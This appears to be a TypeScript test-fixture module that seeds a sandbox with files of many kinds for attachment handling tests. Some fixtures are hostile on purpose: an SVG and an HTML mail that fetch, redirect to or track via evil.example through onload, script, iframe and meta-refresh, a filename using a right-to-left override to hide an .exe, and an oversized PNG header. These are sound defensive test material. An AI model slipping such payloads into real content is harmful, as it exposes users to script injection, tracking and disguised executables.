import type { SandboxFile, World } from '../../model';
import { randomFor } from '../random';
import { base64Bytes, blinkingGif, claimedPng, pdf, screenPng, utf8, utf16, zip } from './bytes';

const photo =
  '/9j/4AAQSkZJRgABAQAAAQABAAD/2wBDABQODxIPDRQSEBIXFRQYHjIhHhwcHj0sLiQySUBMS0dARkVQWnNiUFVtVkVGZIhlbXd7gYKBTmCNl4x9lnN+gXz/2wBDARUXFx4aHjshITt8U0ZTfHx8fHx8fHx8fHx8fHx8fHx8fHx8fHx8fHx8fHx8fHx8fHx8fHx8fHx8fHx8fHx8fHz/wAARCAAgADADASIAAhEBAxEB/8QAGAABAQEBAQAAAAAAAAAAAAAABAADAgX/xAAtEAAABAMECgIDAAAAAAAAAAAAAgMRAQQUBRITVBYxQmFkk6Gj0eEhIyJBUf/EABcBAQEBAQAAAAAAAAAAAAAAAAADAgH/xAAcEQACAgIDAAAAAAAAAAAAAAAAAQIDESETQVH/2gAMAwEAAhEDEQA/APbtG0KDD+rEvvtMzNu3gWkHDdz0Hz60sjh1KMFXe7+MItq/oJWWbk4coourKksSWzqptksxWjPSDhu56FpBw3c9DSss3Jw5RRpLrWfMLFSJKFgY2p0ysNctHgdFyWWg+kHDdz0G2daFfifVh3G2nd33bhvRyuWR5cB2miki+EmQj67pYQcJSra0iST7OJlc6N24iZV3e7+ugwrl8kp18BwhE0Brl8kp18Crl8kp18BwgARGbVUVKQ0qdOEdqL/HQLEIAf/Z';
const webp =
  'UklGRpgAAABXRUJQVlA4IIwAAAAwBQCdASowACAAPv1qqVArJiQiurZoAWAfiWoAuQWAQgH7g58ivTKksQNaOS4I+WB+AAD+6mhfmWWA31zACOQI6mXpZvv0WeDRK0kgdsZstEYDdbXdSv7LvRiUlqNGvlawCviOG1w623vEri6yxjMjd3u5zBQU1COV5wQQ7oMef7EcJvuf32NCFZZ4AA==';

const diagram = `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 240 80"><g fill="none" stroke="#3b5bdb"><rect x="8" y="20" width="80" height="40" rx="6"/><path d="M88 40h60"/><rect x="150" y="20" width="80" height="40" rx="6"/></g><text x="30" y="44" font-size="12">Export</text><text x="174" y="44" font-size="12">Audit</text></svg>\n`;

const hostileSvg = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 120 60" onload="fetch('https://evil.example/load')"><script>fetch('https://evil.example/script')</script><image xlink:href="https://evil.example/pixel.png" width="1" height="1"/><foreignObject width="120" height="30"><iframe xmlns="http://www.w3.org/1999/xhtml" src="https://evil.example/frame"></iframe></foreignObject><a xlink:href="javascript:alert(1)"><text x="6" y="40">A harmless looking logo</text></a></svg>\n`;

const mail = `<!DOCTYPE html><html><head><title>Your export</title><meta http-equiv="refresh" content="5;url=https://evil.example/refresh"></head><body><h1>Your export is ready</h1><p>Dear Anna,<br>the list of <b>10,000 rows</b> is attached.</p><table border="1"><tr><th>Contract</th><th>Rows</th></tr><tr><td>0042</td><td>812</td></tr></table><img src="https://evil.example/open.png" alt=""><script>document.title = 'ran'; fetch('https://evil.example/script');</script></body></html>\n`;

const settings = `${JSON.stringify({ server: { port: 8443, workers: 4 }, export: { rows: 10000, columns: ['id', 'title', 'status'], order: 'as shown' } }, null, 2)}\n`;

const table =
  'contract;country;rows;checked\n0042;DE;812;yes\n0043;FR;96;no\n"0044";"US; CA";1204;yes\n';

const levels = ['INFO ', 'INFO ', 'INFO ', 'DEBUG', 'WARN ', 'ERROR'] as const;
const events = [
  'export 0042 started by anna',
  'page 3 of 24 read in 212 ms',
  'row 4812 has no contract number',
  'database timeout after 5000 ms, retry 1 of 3',
  'column order kept: id, title, status',
  'audit file written, 10000 rows',
] as const;

/** A server log of `lines` lines; line 48,120 of a long one is as easy to name as line 12. */
function serverLog(lines: number): string {
  const random = randomFor(lines);
  const text: string[] = [];
  for (let line = 1; line <= lines; line += 1) {
    const second = line % 60;
    const minute = Math.floor(line / 60) % 60;
    const time = `08:${String(minute).padStart(2, '0')}:${String(second).padStart(2, '0')}`;
    text.push(`2026-11-16 ${time} ${random.pick(levels)} [${line}] ${random.pick(events)}`);
  }
  return `${text.join('\n')}\n`;
}

interface FilePlan {
  id: number;
  name: string;
  type: string;
  description?: string;
  bytes: () => Uint8Array;
}

const specPages = [
  [
    'Export of lists',
    '',
    'An export holds the columns shown, in the same order.',
    'The file is ready within five seconds.',
  ],
  [
    'Page 2',
    '',
    'Hidden columns stay out, unless All is ticked.',
    'Auditors compare the file with the page.',
  ],
] as const;

function archive(): Uint8Array {
  const parts = Array.from({ length: 36 }, (_, index) => [
    `dump/part-${String(index + 1).padStart(2, '0')}.txt`,
    utf8(`Part ${index + 1} of the dump\n`),
  ]);
  return zip({
    'conf/app.json': utf8(settings),
    'conf/readme.txt': utf8('Settings of the export service.\n'),
    'data/contracts.csv': utf8(table),
    'screens/one.png': screenPng(120, 80, [229, 72, 77]),
    ...Object.fromEntries(parts),
  });
}

const ofExport: readonly FilePlan[] = [
  { id: 4101, name: 'server.log', type: 'text/plain', bytes: () => utf8(serverLog(4_000)) },
  {
    id: 4102,
    name: 'screen1.png',
    type: 'image/png',
    bytes: () => screenPng(320, 200, [59, 91, 219]),
  },
  {
    id: 4103,
    name: 'screen2.png',
    type: 'image/png',
    description: 'After an export with a filter',
    bytes: () => screenPng(320, 200, [255, 205, 210]),
  },
  { id: 4104, name: 'spec.pdf', type: 'application/pdf', bytes: () => pdf(specPages) },
  { id: 4105, name: 'dump.zip', type: 'application/zip', bytes: archive },
];

const ofBug: readonly FilePlan[] = [
  { id: 4201, name: 'server.log', type: 'text/plain', bytes: () => utf8(serverLog(60_000)) },
  { id: 4202, name: 'dump.zip', type: 'application/zip', bytes: archive },
  {
    id: 4203,
    name: 'screen1.png',
    type: 'image/png',
    bytes: () => screenPng(320, 200, [59, 91, 219]),
  },
  {
    id: 4204,
    name: 'screen2.png',
    type: 'image/png',
    bytes: () => screenPng(320, 200, [229, 72, 77]),
  },
  { id: 4205, name: 'mail.html', type: 'text/html', bytes: () => utf8(mail) },
  { id: 4206, name: 'spec.pdf', type: 'application/pdf', bytes: () => pdf(specPages) },
];

const ofEveryKind: readonly FilePlan[] = [
  {
    id: 4301,
    name: 'hall.jpg',
    type: 'image/jpeg',
    description: 'The hall where the line is lost',
    bytes: () => base64Bytes(photo),
  },
  { id: 4302, name: 'blinking.gif', type: 'image/gif', bytes: blinkingGif },
  { id: 4303, name: 'poster.webp', type: 'image/webp', bytes: () => base64Bytes(webp) },
  { id: 4304, name: 'flow.svg', type: 'image/svg+xml', bytes: () => utf8(diagram) },
  {
    id: 4305,
    name: 'logo.svg',
    type: 'image/svg+xml',
    description: 'Hostile on purpose: it must show, and nothing in it may run',
    bytes: () => utf8(hostileSvg),
  },
  {
    id: 4306,
    name: 'windows.log',
    type: 'text/plain',
    description: 'UTF-16',
    bytes: () => utf16(serverLog(40)),
  },
  {
    id: 4307,
    name: 'holiday.png',
    type: 'image/png',
    description: 'Says that it is a picture, and is a web page',
    bytes: () => utf8(mail),
  },
  { id: 4308, name: 'Übersicht der Verträge 2026.csv', type: 'text/csv', bytes: () => utf8(table) },
  { id: 4309, name: 'app.json', type: 'application/json', bytes: () => utf8(settings) },
  { id: 4310, name: 'empty.txt', type: 'text/plain', bytes: () => new Uint8Array(0) },
  {
    id: 4311,
    name: 'firmware.bin',
    type: 'application/octet-stream',
    bytes: () => Uint8Array.from({ length: 1024 }, (_, index) => (index * 37) % 256),
  },
  {
    id: 4312,
    name: 'poster-for-the-wall.png',
    type: 'image/png',
    description: 'Says that it has 900 million pixels: it must not be opened',
    bytes: () => claimedPng(30_000, 30_000),
  },
  {
    id: 4313,
    name: 'photo\u202Egnp.exe',
    type: 'image/png',
    description: 'A mark in its name turns the direction of writing: it ends in .exe',
    bytes: () => Uint8Array.of(0x4d, 0x5a, 0x90, 0, 3, 0, 0, 0, 4, 0, 0, 0, 0xff, 0xff, 0, 0),
  },
  {
    id: 4314,
    name: 'Grüße.txt',
    type: 'text/plain',
    description: 'Latin-1',
    bytes: () => Uint8Array.from('Grüße aus Köln\n', (sign) => sign.charCodeAt(0)),
  },
];

class SeedFile implements SandboxFile {
  readonly id: number;
  readonly name: string;
  readonly type: string;
  readonly description: string;
  readonly submittedBy: number;
  artifactId: number | null;
  chunks = 1;
  #make: () => Uint8Array;
  #bytes: Uint8Array | undefined;

  constructor(plan: FilePlan, artifactId: number, submittedBy: number) {
    this.id = plan.id;
    this.name = plan.name;
    this.type = plan.type;
    this.description = plan.description ?? '';
    this.artifactId = artifactId;
    this.submittedBy = submittedBy;
    this.#make = plan.bytes;
  }

  /** Made when first asked for: most tests never look. */
  get bytes(): Uint8Array {
    this.#bytes ??= this.#make();
    return this.#bytes;
  }

  set bytes(bytes: Uint8Array) {
    this.#bytes = bytes;
  }
}

/** The artifacts that carry files, and the ids of these files in the order of their field. */
export const seedFiles: Readonly<Record<number, readonly number[]>> = {
  431: ofExport.map((file) => file.id),
  701: ofBug.map((file) => file.id),
  700: ofEveryKind.map((file) => file.id),
};

/** Puts the files into the world: #431 as in the pictures, bug #701 of journeys.md J7, bug #700 with every kind. */
export function addSeedFiles(world: World, submittedBy: number): void {
  const sets: readonly [number, readonly FilePlan[]][] = [
    [431, ofExport],
    [701, ofBug],
    [700, ofEveryKind],
  ];
  for (const [artifactId, plans] of sets) {
    for (const plan of plans) world.files.set(plan.id, new SeedFile(plan, artifactId, submittedBy));
  }
}
